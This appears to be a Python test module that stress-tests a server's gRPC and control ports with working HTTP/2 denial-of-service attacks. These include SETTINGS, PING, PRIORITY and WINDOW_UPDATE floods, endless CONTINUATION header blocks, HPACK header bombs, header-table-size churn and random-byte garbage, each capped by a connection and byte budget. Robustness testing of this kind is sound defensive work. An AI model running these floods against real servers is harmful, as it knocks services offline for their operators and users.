"""HTTP/2 frames that cost the receiver more than the sender, on both gRPC ports."""

import asyncio
from functools import partial

from hpack import Encoder

from tests.attacks.attack import Attack, Budget
from tests.attacks.attacker import Attacker
from tests.attacks.grpc_streams import port_of
from tests.attacks.http2 import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES_MAX,
    HEADERS,
    HEALTH_CHECK,
    PING,
    PRIORITY,
    WINDOW_UPDATE,
    frame,
    http2,
    settings,
)

FLOOD = Budget(connections=60, sent_bytes=20_000_000, bytes_per_s=4_000_000)
STREAMS = 1000


async def flood(
    attacker: Attacker, *, piece: bytes, reads: bool = False, control: bool = False
) -> None:
    """`piece` without end; unless `reads`, the server keeps its replies."""

    async def one() -> None:
        wire = await http2(attacker, port=port_of(attacker, control=control), reads=reads)
        try:
            while True:
                await wire.send(piece)
                await asyncio.sleep(0)
        finally:
            wire.close()

    await attacker.again(one)


async def continuation_flood(attacker: Attacker, *, control: bool = False) -> None:
    """An endless header block."""
    block = Encoder().encode([(":method", "POST"), (":path", HEALTH_CHECK)], huffman=False)
    literal = b"\x00\x01a\x01b" * (FRAME_BYTES_MAX // 5)  # "a: b", put into no table

    async def one() -> None:
        wire = await http2(attacker, port=port_of(attacker, control=control))
        await wire.send(frame(HEADERS, 0, 1, block))
        while not wire.wire.reader.at_eof():
            await wire.send(frame(CONTINUATION, 0, 1, literal))
            await asyncio.sleep(0)
        wire.close()

    await attacker.again(one)


async def hpack_bombs(attacker: Attacker, *, control: bool = False) -> None:
    """Header blocks in which a byte stands for a 4 kB table entry."""
    encoder = Encoder()
    fields = [(":method", "POST"), (":scheme", "http"), (":path", HEALTH_CHECK)]
    block = encoder.encode([*fields, (":authority", "a"), ("x", "a" * 3_900)], huffman=False)
    bomb = block + b"\xbe" * (FRAME_BYTES_MAX - len(block) - 1)  # the newest entry of the table

    async def one() -> None:
        wire = await http2(attacker, port=port_of(attacker, control=control))
        for stream in range(1, 2 * STREAMS, 2):
            await wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb))
            await asyncio.sleep(0)
        wire.close()

    await attacker.again(one)


async def table_sizes(attacker: Attacker) -> None:
    """Header tables of the largest size and of none, alternating."""
    large, small = settings(header_table_size=2**32 - 1), settings(header_table_size=0)
    await flood(attacker, piece=(large + small) * 200)


async def garbage(attacker: Attacker, *, port: str = "grpc_port", plain: bool = False) -> None:
    """Random bytes, on one connection after another."""

    async def one() -> None:
        wire = await attacker.connect(getattr(attacker.target, port), plain=plain)
        try:
            for _ in range(20):
                await wire.send(attacker.random.randbytes(50_000))
        finally:
            wire.close()

    await attacker.again(one)


SETTINGS_PIECE = settings(initial_window_size=65_535) * 300
PING_PIECE = frame(PING, 0, 0, b"12345678") * 300
PRIORITY_PIECE = b"".join(
    frame(PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in range(1, 601, 2)
)
WINDOW_PIECE = frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * 300

ATTACKS = (
    Attack(
        name="h2-settings-flood",
        what="SETTINGS without end, acknowledgements never read",
        run=partial(flood, piece=SETTINGS_PIECE),
        budget=FLOOD,
    ),
    Attack(
        name="h2-ping-flood",
        what="PINGs without end, answers never read",
        run=partial(flood, piece=PING_PIECE),
        budget=FLOOD,
        cheap=True,
    ),
    Attack(
        name="h2-priority-flood",
        what="PRIORITY of streams that are not there",
        run=partial(flood, piece=PRIORITY_PIECE, reads=True),
        budget=FLOOD,
    ),
    Attack(
        name="h2-window-updates",
        what="a window that grows by a byte at a time",
        run=partial(flood, piece=WINDOW_PIECE, reads=True),
        budget=FLOOD,
    ),
    Attack(
        name="h2-continuation-flood",
        what="a block of headers that does not end",
        run=continuation_flood,
        budget=Budget(connections=60),
        cheap=True,
    ),
    Attack(
        name="h2-hpack-bombs",
        what="blocks of headers in which each byte stands for 4 kB",
        run=hpack_bombs,
        budget=Budget(connections=60, sent_bytes=20_000_000, bytes_per_s=2_000_000),
        cheap=True,
    ),
    Attack(
        name="h2-table-sizes",
        what="header tables of 4 GB and of nothing, over and over",
        run=table_sizes,
        budget=FLOOD,
    ),
    Attack(
        name="grpc-garbage",
        what="random bytes to the gRPC port",
        run=garbage,
        budget=Budget(connections=100),
    ),
    Attack(
        name="control-ping-flood",
        what="PINGs without end to the control port, answers never read",
        run=partial(flood, piece=PING_PIECE, control=True),
        budget=FLOOD,
    ),
    Attack(
        name="control-continuation-flood",
        what="a block of headers that does not end, to the control port",
        run=partial(continuation_flood, control=True),
        budget=Budget(connections=60),
    ),
    Attack(
        name="control-garbage",
        what="random bytes to the control port",
        run=partial(garbage, port="control_port"),
        budget=Budget(connections=100),
    ),
)
